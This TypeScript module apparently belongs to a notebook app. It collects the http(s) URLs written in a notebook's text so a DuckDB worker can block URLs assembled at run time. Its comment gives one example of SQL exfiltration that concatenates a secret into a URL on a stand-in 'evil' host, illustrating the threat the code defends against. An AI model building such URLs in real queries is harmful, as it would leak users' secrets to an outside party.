/**
 * Which URLs DuckDB may read over HTTP for a notebook: the ones written in its
 * text. A stranger's notebook that the reader ran with network can still read
 * a public file it names (`read_csv('https://…/x.csv')`, a documented feature),
 * but SQL that builds a URL at run time (`'https://evil/?leak=' || secret`)
 * would be a channel for whatever the notebook can see: such a URL is not in
 * the text, so DuckDB's worker refuses it before any request is made
 * (workers/data/duck-worker.ts). Pure.
 */

/** An `http(s)://` URL as written: up to a quote, whitespace, a bracket or a backtick. */
const WRITTEN_URL = /\bhttps?:\/\/[^\s'"`<>()[\]{}\\]+/gi;

/** Trailing punctuation that ends a sentence rather than a URL. */
const TRAILING = /[.,;:!?]+$/;

/**
 * The `http(s)` URLs written anywhere in `text` (front matter, SQL, code,
 * prose), normalized by the URL parser, sorted and without repeats. Written
 * with trailing punctuation, both forms are kept.
 */
export function urlsWritten(text: string): string[] {
  const urls = new Set<string>();
  for (const [match] of text.matchAll(WRITTEN_URL)) {
    for (const candidate of new Set([match, match.replace(TRAILING, '')])) {
      const href = normalizedUrl(candidate);
      if (href) urls.add(href);
    }
  }
  return [...urls].sort();
}

/** `url` as the browser's URL parser writes it, or `undefined` if it is not an absolute http(s) URL. */
export function normalizedUrl(url: string, base?: string): string | undefined {
  try {
    const parsed = new URL(url, base);
    return parsed.protocol === 'http:' || parsed.protocol === 'https:' ? parsed.href : undefined;
  } catch {
    return undefined;
  }
}
